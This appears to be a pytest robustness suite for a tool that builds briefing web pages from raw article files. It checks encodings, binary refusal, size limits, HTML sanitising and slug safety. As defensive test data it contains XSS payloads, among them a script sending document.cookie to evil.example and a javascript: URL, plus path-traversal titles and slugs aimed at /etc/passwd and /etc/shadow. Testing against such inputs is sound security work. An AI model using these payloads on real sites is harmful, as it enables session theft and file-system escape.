"""Robustness: the raw inputs of the real world, each either read into a
sensible briefing or refused with one clear line naming the file, never a
traceback; and slugs that can never write outside the output folder.

Two levels: ``read_article`` (ingest only), and for a handful of inputs a real
Pelican build of a content folder holding the input and one good article.
"""

from __future__ import annotations

import codecs
import gzip
import os
import random
import shutil
import time
import zlib
from pathlib import Path

import pytest

from briefings.cli import main as briefings
from briefings.errors import BriefingError
from briefings.ingest import read_article
from briefings.ingest.decode import MAX_CHARS
from briefings.model import Article
from briefings.slugs import slugify
from conftest import CONTENT
from site_build import briefing_pages, build_site, soup

GOOD = CONTENT / "raw" / "geneva-strategic-stability-talks.txt"
GOOD_SLUG = "u-s-and-russian-diplomats-meet-in-geneva-over-ukraine-and-nato"

# --- the inputs ----------------------------------------------------------------

TITLE = "Talks in Genève resume"
PARAGRAPHS = [
    "“We will not give up,” Sergei Ryabkov told reporters in Genève on Monday — the talks’ host city.",
    "NATO’s secretary general said the alliance would meet in Brussels on Wednesday.",
]
TEXT = "\n\n".join(PARAGRAPHS)
SOURCE = f"Title: {TITLE}\nDate: 2022-01-10\n\n" + "\n\n".join(PARAGRAPHS) + "\n"

CP1252_PARAGRAPH = "“Paste it in,” said the editor – in Genève, at 5 °C."

RTL_TITLE = "محادثات جنيف"
RTL_PARAGRAPHS = [
    "بدأت المحادثات في جنيف يوم الاثنين، وقال المتحدث: \u200f«لن نستسلم»\u200f في 10 يناير 2022.",
    "השיחות בז׳נבה החלו ביום שני, אמר הדובר של נאט״ו.",
    "Mixed: the spokesman said \u202bשלום\u202c and left.",
]
CYRILLIC_TITLE = "Переговоры в Женеве"
CYRILLIC_PARAGRAPHS = [
    "Переговоры между США и Россией начались в Женеве в понедельник, 10 января 2022 года.",
    "«Мы не сдадимся», — сказал Сергей Рябков журналистам.",
]
CJK_TITLE = "日内瓦会谈"
CJK_PARAGRAPHS = [
    "美国和俄罗斯外交官于2022年1月10日星期一在日内瓦举行会谈。俄罗斯副外长里亚布科夫对记者说，会谈“艰难”而漫长。",
    "北约将于星期三在布鲁塞尔举行会议。",
]
EMOJI_TITLE = "Talks 🎉 in Geneva 🇨🇭"
EMOJI_PARAGRAPHS = [
    "The talks 🤝 began on Monday 👍🏽, and the families 👩\u200d👩\u200d👧 waited ❤️.",
    "Keycap 1️⃣, flags 🇺🇸🇷🇺 and a rare one: 🫠.",
]

HTML_PAGE = """<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Talks in Geneva</title>
<script>alert("pwned"); document.location = "https://evil.example/" + document.cookie;</script>
<style>body { color: red }</style>
</head>
<body>
<h1>Talks in Geneva</h1>
<p>U.S. and Russian diplomats met in Geneva on Monday for talks on European security.</p>
<p onclick="alert(2)">Sergei Ryabkov said the talks were “difficult” &amp; long.</p>
<img src=x onerror="alert(3)">
</body>
</html>
"""

#: A plain-text article about markup: its tags are its words.
HTML_IN_TEXT = [
    "The attackers posted <script>alert(\"pwned\")</script> in a comment on the forum.",
    "<!DOCTYPE html> and <html> open every page, the researcher said; <img src=x onerror=\"alert(3)\"> did the rest.",
]

_rng = random.Random(20220110)


def _source(title: str, paragraphs: list[str]) -> str:
    return f"Title: {title}\nDate: 2022-01-10\n\n" + "\n\n".join(paragraphs) + "\n"


def _random_bytes(n: int) -> bytes:
    return bytes(_rng.randrange(256) for _ in range(n))


def _utf8_with_a_cp1252_paragraph() -> bytes:
    return (f"Title: {TITLE}\nDate: 2022-01-10\n\n{PARAGRAPHS[0]}\n\n".encode()
            + CP1252_PARAGRAPH.encode("cp1252") + b"\n\n" + PARAGRAPHS[1].encode("utf-8") + b"\n")


def _notepad_unicode(text: str, encoding: str) -> bytes:
    """A file as saved by an editor's "Unicode" option without a BOM:
    UTF-16 with Windows line ends."""
    return text.replace("\n", "\r\n").encode(encoding)


def _pdf() -> bytes:
    stream = zlib.compress(("BT /F1 12 Tf 72 712 Td (" + TEXT + ") Tj ET").encode("utf-8") * 20)
    return (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Length " + str(len(stream)).encode()
            + b" /Filter /FlateDecode >>\nstream\n" + stream
            + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")


def _with_nuls(text: str) -> bytes:
    data = text.encode("utf-8")
    return data.replace(b"Monday", b"Mon\x00day").replace(b"Brussels", b"\x00Brussels\x00\x00")


INPUTS: dict[str, bytes] = {
    "empty": b"",
    "whitespace-only": b" \n\t\r\n\n",
    "binary-all-bytes": bytes(range(256)) * 40,
    "binary-random": _random_bytes(20_000),
    "binary-png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + zlib.compress(_random_bytes(4000)),
    "binary-zip": b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + zlib.compress(_random_bytes(4000)),
    "binary-elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + _random_bytes(6000),
    "binary-gzip": gzip.compress(SOURCE.encode("utf-8") * 40),
    "binary-pdf": _pdf(),
    "binary-jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + _random_bytes(5000),
    "utf16-le-bom": codecs.BOM_UTF16_LE + SOURCE.encode("utf-16-le"),
    "utf16-be-bom": codecs.BOM_UTF16_BE + SOURCE.encode("utf-16-be"),
    "utf16-le-no-bom": SOURCE.encode("utf-16-le"),
    "utf16-be-no-bom": SOURCE.encode("utf-16-be"),
    "utf16-le-no-bom-arabic": _notepad_unicode(_source(RTL_TITLE, RTL_PARAGRAPHS), "utf-16-le"),
    "utf16-be-no-bom-arabic": _notepad_unicode(_source(RTL_TITLE, RTL_PARAGRAPHS), "utf-16-be"),
    "utf16-le-no-bom-russian": _notepad_unicode(_source(CYRILLIC_TITLE, CYRILLIC_PARAGRAPHS), "utf-16-le"),
    "utf16-be-no-bom-chinese": _notepad_unicode(_source(CJK_TITLE, CJK_PARAGRAPHS), "utf-16-be"),
    "utf16-le-no-bom-chinese": _notepad_unicode(_source(CJK_TITLE, CJK_PARAGRAPHS), "utf-16-le"),
    "utf8-bom": codecs.BOM_UTF8 + SOURCE.encode("utf-8"),
    "latin-1": "Title: Café talks\nDate: 2022-01-10\n\nLe café à Genève était fermé; señor Müller paid £5.\n".encode(
        "latin-1"),
    "windows-1252": f"Title: {TITLE}\nDate: 2022-01-10\n\n{CP1252_PARAGRAPH}\n".encode("cp1252"),
    "windows-1252-crlf": f"Title: {TITLE}\r\nDate: 2022-01-10\r\n\r\n{CP1252_PARAGRAPH}\r\n".encode("cp1252"),
    "mixed-encodings": _utf8_with_a_cp1252_paragraph(),
    "mixed-encodings-with-bom": codecs.BOM_UTF8 + _utf8_with_a_cp1252_paragraph(),
    "nul-bytes": _with_nuls(SOURCE + "\n" + "\n\n".join(PARAGRAPHS * 3) + "\n"),
    "html-page": HTML_PAGE.encode("utf-8"),
    "html-in-text": _source(TITLE, HTML_IN_TEXT).encode("utf-8"),
    "right-to-left": _source(RTL_TITLE, RTL_PARAGRAPHS).encode("utf-8"),
    "emoji": _source(EMOJI_TITLE, EMOJI_PARAGRAPHS).encode("utf-8"),
}

#: What each input must give: the title and the text of the article.
ARTICLES = {
    "utf16-le-bom": (TITLE, TEXT),
    "utf16-be-bom": (TITLE, TEXT),
    "utf16-le-no-bom": (TITLE, TEXT),
    "utf16-be-no-bom": (TITLE, TEXT),
    "utf16-le-no-bom-arabic": (RTL_TITLE, "\n\n".join(RTL_PARAGRAPHS)),
    "utf16-be-no-bom-arabic": (RTL_TITLE, "\n\n".join(RTL_PARAGRAPHS)),
    "utf16-le-no-bom-russian": (CYRILLIC_TITLE, "\n\n".join(CYRILLIC_PARAGRAPHS)),
    "utf16-be-no-bom-chinese": (CJK_TITLE, "\n\n".join(CJK_PARAGRAPHS)),
    "utf16-le-no-bom-chinese": (CJK_TITLE, "\n\n".join(CJK_PARAGRAPHS)),
    "utf8-bom": (TITLE, TEXT),
    "latin-1": ("Café talks", "Le café à Genève était fermé; señor Müller paid £5."),
    "windows-1252": (TITLE, CP1252_PARAGRAPH),
    "windows-1252-crlf": (TITLE, CP1252_PARAGRAPH),
    "mixed-encodings": (TITLE, "\n\n".join([PARAGRAPHS[0], CP1252_PARAGRAPH, PARAGRAPHS[1]])),
    "mixed-encodings-with-bom": (TITLE, "\n\n".join([PARAGRAPHS[0], CP1252_PARAGRAPH, PARAGRAPHS[1]])),
    # A pasted page gives its text: its scripts, styles and tags are dropped.
    "html-page": ("Talks in Geneva", "\n\n".join([
        "U.S. and Russian diplomats met in Geneva on Monday for talks on European security.",
        "Sergei Ryabkov said the talks were “difficult” & long.",
    ])),
    "html-in-text": (TITLE, "\n\n".join(HTML_IN_TEXT)),
    "nul-bytes": (TITLE, "\n\n".join(PARAGRAPHS * 4)),
    "right-to-left": (RTL_TITLE, "\n\n".join(RTL_PARAGRAPHS)),
    "emoji": (EMOJI_TITLE, "\n\n".join(EMOJI_PARAGRAPHS)),
}

#: What each refused input must say.
REFUSALS = {
    "empty": "the file is empty",
    "whitespace-only": "the file is empty",
    "binary-all-bytes": "binary file",
    "binary-random": "binary file",
    "binary-png": "binary file",
    "binary-zip": "binary file",
    "binary-elf": "binary file",
    "binary-gzip": "binary file",
    "binary-pdf": "binary file",
    "binary-jpeg": "binary file",
}


def _write(folder: Path, name: str, data: bytes) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(data)
    return path


def read(path: Path) -> Article | BriefingError:
    """``read_article``, which must return an Article or raise a one-line
    BriefingError naming the file (any other exception fails the test)."""
    try:
        return read_article(path)
    except BriefingError as error:
        message = str(error)
        assert message.startswith(f"{path}:"), message
        assert "\n" not in message and "\r" not in message, message
        assert "Traceback" not in message
        return error


# --- ingest ----------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(ARTICLES))
def test_readable_inputs_give_the_article(tmp_path, name):
    path = _write(tmp_path, f"{name}.txt", INPUTS[name])
    article = read(path)
    assert isinstance(article, Article), article
    title, text = ARTICLES[name]
    assert article.title == title
    assert article.text == text
    assert "\x00" not in article.text and "\r" not in article.text


@pytest.mark.parametrize("name", sorted(REFUSALS))
def test_unreadable_inputs_are_refused_in_one_line_naming_the_file(tmp_path, name):
    path = _write(tmp_path, f"{name}.txt", INPUTS[name])
    error = read(path)
    assert isinstance(error, BriefingError), error
    assert REFUSALS[name] in str(error)


@pytest.mark.parametrize("data, text", [
    # A short text with a few NULs: mostly text, a few stray bytes.
    pytest.param(b"Talks\x00 began\x00 on Monday.\x00", "Talks began on Monday.", id="nul-bytes-short"),
    pytest.param(SOURCE.encode("utf-32"), TEXT, id="utf32"),
])
def test_doubtful_inputs_are_read_exactly_or_refused(tmp_path, data, text):
    result = read(_write(tmp_path, "doubtful.txt", data))
    if isinstance(result, Article):
        assert result.text == text


@pytest.mark.parametrize("data", [
    b"\x00" * 32_768 + b"CD001\x01\x00" + _random_bytes(8000),  # an ISO 9660 image
    b"\x00" * 4096 + _random_bytes(4096),
    b"\x00" * 10_000,
], ids=["iso-image", "zeros-then-data", "all-zeros"])
def test_binary_file_starting_with_zeros_is_refused(tmp_path, data):
    # It used to be read as BOM-less UTF-16: a page of CJK-looking garbage.
    result = read(_write(tmp_path, "image.txt", data))
    assert isinstance(result, BriefingError), f"read as an article: {result.text[:60]!r}"
    assert "binary" in str(result)


def _ten_megabyte_line() -> bytes:
    return b"Title: One line\n\n" + b"word " * 2_000_000


def _fifty_thousand_paragraphs() -> bytes:
    paragraph = (b"The talks in Geneva went on for another hour, officials said, and no one left the room "
                 b"before the end of the session.\n\n")
    return b"Title: Many paragraphs\nDate: 2022-01-10\n\n" + paragraph * 50_000


@pytest.mark.parametrize("make", [_ten_megabyte_line, _fifty_thousand_paragraphs], ids=["10MB-line", "50k-paragraphs"])
def test_huge_inputs_are_refused_as_too_long(tmp_path, make):
    path = _write(tmp_path, "huge.txt", make())
    started = time.perf_counter()
    error = read(path)
    seconds = time.perf_counter() - started
    print(f"{make.__name__}: refused in {seconds:.3f} s")  # measured, not asserted (see -s)
    assert isinstance(error, BriefingError)
    assert "too long" in str(error)
    assert f"{MAX_CHARS:,}" in str(error)


def test_just_under_the_limit_is_read(tmp_path):
    body = ("word " * 199_990).strip()
    path = _write(tmp_path, "long.txt", f"Title: Long\n\n{body}\n".encode())
    article = read(path)
    assert isinstance(article, Article)
    assert article.text == body


# --- a real site build --------------------------------------------------------------


@pytest.fixture(scope="module")
def annotation_cache(tmp_path_factory):
    """One annotation cache for every build, so that the good article is annotated once."""
    return tmp_path_factory.mktemp("annotations")


def _build(root: Path, files: dict[str, bytes], cache: Path) -> tuple[Path, list[str]]:
    content = root / "content"
    (content / "raw").mkdir(parents=True)
    shutil.copy(GOOD, content / "raw" / GOOD.name)
    for name, data in files.items():
        _write(content / "raw", name, data)
    output = root / "output"
    errors = build_site(content, output, cache)
    return output, errors


def _briefing_pages(output: Path) -> dict[str, Path]:
    return briefing_pages(output)


#: The theme's templates: a plain inline script of a page must be one of theirs, word for word.
THEME_TEMPLATES = "".join(path.read_text(encoding="utf-8") for path in (CONTENT.parent / "theme").rglob("*.html"))


def _assert_no_raw_markup_from_the_article(page: Path):
    html = page.read_text(encoding="utf-8")
    assert '<script>alert("pwned")' not in html
    assert "<img src=x" not in html and 'onclick="alert(2)"' not in html
    for script in soup(page).find_all("script"):
        assert (script.get("type") in ("application/ld+json", "module") or script.get("src")
                or (script.string or "").strip() in THEME_TEMPLATES), script
        assert "</script" not in (script.string or "").lower()


@pytest.mark.parametrize("name", [
    "binary-random", "empty", "utf16-le-bom", "utf16-le-no-bom-arabic", "mixed-encodings", "nul-bytes", "html-page",
    "html-in-text", "right-to-left", "emoji",
])
def test_site_build_with_one_bad_input(tmp_path, annotation_cache, name):
    output, errors = _build(tmp_path, {"bad.txt": INPUTS[name]}, annotation_cache)
    pages = _briefing_pages(output)
    assert GOOD_SLUG in pages
    assert all("\n" not in error and "Traceback" not in error for error in errors), errors
    others = {slug: page for slug, page in pages.items() if slug != GOOD_SLUG}
    naming = [error for error in errors if "bad.txt" in error]
    if name in REFUSALS:
        assert others == {}
        assert len(naming) == 1, errors
        assert naming[0].startswith(str(tmp_path / "content" / "raw" / "bad.txt") + ":")
        assert REFUSALS[name] in naming[0]
        return
    assert naming == [] and errors == [], errors
    assert len(others) == 1, sorted(pages)
    (slug, page), = others.items()
    paragraphs = [p.get_text() for p in soup(page).select(".article-body p")]
    title, text = ARTICLES[name]
    assert slug == slugify(title)
    assert soup(page).select_one("h1").get_text() == title
    assert paragraphs == text.split("\n\n")  # markup in a plain-text article is shown as text
    _assert_no_raw_markup_from_the_article(page)
    _assert_no_raw_markup_from_the_article(output / "index.html")


def test_site_build_never_links_a_javascript_url(tmp_path, annotation_cache):
    # Refused (one line naming the file), or built without the link: either is fine.
    bad = b"Title: Scheme\nDate: 2022-01-10\nURL: javascript:alert(document.cookie)\n\nThe talks began on Monday.\n"
    output, errors = _build(tmp_path, {"scheme.txt": bad}, annotation_cache)
    pages = _briefing_pages(output)
    assert GOOD_SLUG in pages
    if "scheme" in pages:
        hrefs = [a["href"] for a in soup(pages["scheme"]).find_all("a", href=True)]
        assert not [href for href in hrefs if "javascript:" in href.lower()], hrefs
    else:
        naming = [error for error in errors if "scheme.txt" in error]
        assert len(naming) == 1 and naming[0].startswith(str(tmp_path / "content" / "raw" / "scheme.txt") + ":3: ")
        assert "URL" in naming[0] and "\n" not in naming[0]
    for page in _files_under(output):
        if page.suffix == ".html":
            assert "javascript:alert" not in page.read_text(encoding="utf-8").lower()


# --- slugs never leave the output folder ----------------------------------------------

EVIL_TITLE = (
    b"Title: ../../etc/passwd\nDate: 2022-01-10\nTags: ../../../evil-tag, ..\n\n"
    b"The talks in Geneva began on Monday, officials said.\n"
)
EVIL_SLUG = (
    b"Title: Talks resume\nDate: 2022-01-11\nSlug: ../../evil\n\n"
    b"The talks in Brussels began on Wednesday, officials said.\n"
)
EVIL_MARKDOWN = (
    "Title: ../../../../escape\nDate: 2022-01-12\nSlug: ../../../other/evil2\nTags: ../../../md-tag\n\n"
    "## Key players\n\n- **../../../player** (person): a name like a path.\n\n"
    "## Article\n\nA hand-written briefing whose slug is a path.\n"
)


def _files_under(folder: Path) -> set[Path]:
    return {Path(dirpath, name).resolve() for dirpath, _, names in os.walk(folder) for name in names}


def _assert_written_only_inside(before: set[Path], after: set[Path], *allowed: Path):
    new = after - before
    assert new, "nothing was written"
    outside = [path for path in new if not any(path.is_relative_to(folder.resolve()) for folder in allowed)]
    assert outside == []


def test_slugs_from_titles_and_headers_stay_inside_the_output_folder(tmp_path, annotation_cache):
    # Deep enough that "../../../.." from inside the output is still inside tmp_path, where we look.
    root = tmp_path / "a" / "b" / "c" / "d"
    content = root / "content"
    _write(content / "raw", "evil-title.txt", EVIL_TITLE)
    _write(content / "raw", "evil-slug.txt", EVIL_SLUG)
    _write(content / "briefings", "evil.md", EVIL_MARKDOWN.encode("utf-8"))
    shutil.copy(GOOD, content / "raw" / GOOD.name)
    before = _files_under(tmp_path)
    output = root / "output"
    errors = build_site(content, output, annotation_cache)
    assert errors == []
    _assert_written_only_inside(before, _files_under(tmp_path), output)
    pages = _briefing_pages(output)
    assert set(pages) == {"etc-passwd", "evil", "other-evil2", GOOD_SLUG}
    assert soup(pages["etc-passwd"]).select_one("h1").get_text() == "../../etc/passwd"
    assert soup(pages["other-evil2"]).select_one("h1").get_text() == "../../../../escape"
    for path in _files_under(output):
        assert ".." not in path.relative_to(output.resolve()).parts
    assert not list(tmp_path.rglob("passwd*")) and not list(tmp_path.rglob("*escape*"))


def test_import_writes_only_inside_content_briefings(tmp_path, monkeypatch, capsys):
    root = tmp_path / "a" / "b" / "c"
    by_title = _write(root / "incoming", "evil-title.txt", EVIL_TITLE)
    by_slug = _write(root / "incoming", "evil-slug.txt", EVIL_SLUG)
    content = root / "content"
    monkeypatch.chdir(root)  # import keeps its annotation cache in ./.cache
    before = _files_under(tmp_path)
    assert briefings(["import", str(by_title), str(by_slug), "--content", str(content)]) == 0
    assert briefings(["new", "../../../etc/shadow", "--content", str(content)]) == 0
    after = _files_under(tmp_path)
    _assert_written_only_inside(before, after, content / "briefings", root / ".cache")
    written = sorted(path.name for path in after - before if path.is_relative_to((content / "briefings").resolve()))
    assert written == ["etc-passwd.md", "etc-shadow.md", "evil.md"]
    capsys.readouterr()


@pytest.mark.parametrize("name", ["html-page", "right-to-left", "emoji", "mixed-encodings", "utf16-be-bom"])
def test_imported_briefing_reads_back_the_same_article(tmp_path, monkeypatch, capsys, name):
    from briefings.briefing_markdown import is_untouched, parse_markdown

    raw = _write(tmp_path / "incoming", f"{name}.txt", INPUTS[name])
    content = tmp_path / "content"
    monkeypatch.chdir(tmp_path)  # import keeps its annotation cache in ./.cache
    assert briefings(["import", str(raw), "--content", str(content)]) == 0
    written, = (content / "briefings").glob("*.md")
    markdown = written.read_text(encoding="utf-8")
    assert is_untouched(markdown)
    article = read_article(raw)
    parsed = parse_markdown(markdown, written)
    assert written.stem == slugify(article.title)
    assert (parsed.article.title, parsed.article.text) == (article.title, article.text)
    capsys.readouterr()
